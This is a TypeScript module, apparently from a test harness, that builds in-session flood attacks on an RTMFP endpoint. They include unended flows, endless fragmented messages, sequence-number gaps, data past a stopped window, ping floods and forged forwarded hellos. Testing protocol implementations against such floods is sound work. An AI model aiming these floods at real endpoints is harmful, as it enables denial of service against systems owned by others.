/** Floods from within a session of the attacker's own. */
import { type Address, type Session, UdpEndpoint } from "rtmfp-core";
import { type Chunk, ChunkType, FragmentControl, UserDataFlag } from "rtmfp-core/proto";
import type { Attack } from "./attacks.ts";
import { HELD, READ } from "./names.ts";
import { EPD, sealInSession } from "./seal.ts";

/** Flows opened, one per packet, and never ended. */
export async function flows(target: Address): Promise<Attack> {
  let id = 0;
  return inSession(target, () => [fragment(id++, 1, FragmentControl.whole, READ)]);
}

/** One message in pieces of a byte, without an end. */
export async function endlessMessage(target: Address): Promise<Attack> {
  let sn = 0;
  return inSession(target, () => [
    fragment(1, ++sn, sn === 1 ? FragmentControl.begin : FragmentControl.middle, READ, 1),
  ]);
}

/** Beginnings of messages with gaps between them, numbers descending as if by reordering. */
export async function gaps(target: Address): Promise<Attack> {
  let sent = 0;
  return inSession(target, () => {
    const sn = 2 * (RUN - (sent % RUN)) + 2 * RUN * Math.floor(sent / RUN);
    sent++;
    return [fragment(1, sn, FragmentControl.begin, READ, 1)];
  });
}

/** Data for a flow whose reader has stopped, whatever window is advertised. */
export async function beyondWindow(target: Address): Promise<Attack> {
  let sn = 0;
  return inSession(target, () => [fragment(1, ++sn, FragmentControl.whole, HELD, 1_000)]);
}

/** Pings of 500 bytes. */
export async function pings(target: Address): Promise<Attack> {
  const message = new Uint8Array(500);
  return inSession(target, () => [{ type: ChunkType.ping, message }]);
}

/** Forwarded hellos from one who is no introducer. */
export async function forwardedHellos(target: Address): Promise<Attack> {
  const replyAddress = { host: "127.0.0.1", port: 9, origin: 2 } as const;
  return inSession(target, () => [
    { type: ChunkType.forwardedIHello, epd: EPD, replyAddress, tag: new Uint8Array(16) },
  ]);
}

async function inSession(target: Address, chunks: () => Chunk[]): Promise<Attack> {
  const endpoint = await UdpEndpoint.open({ host: "127.0.0.1" });
  const session: Session = await endpoint.connect(target);
  return {
    send: () => endpoint.carrier.send(sealInSession(session, ...chunks()), session.via, target),
    end: () => endpoint.close(),
  };
}

/** User Data that opens its flow if it is the first, and gives up nothing before it. */
function fragment(flow: number, sn: number, control: FragmentControl, metadata: string, bytes = 10): Chunk {
  return {
    type: ChunkType.userData,
    flags: (control << 4) | UserDataFlag.options,
    flowId: flow,
    sequenceNumber: sn,
    fsnOffset: sn,
    options: [{ type: 0, value: new TextEncoder().encode(metadata) }],
    data: new Uint8Array(bytes),
  };
}

const RUN = 20_000;
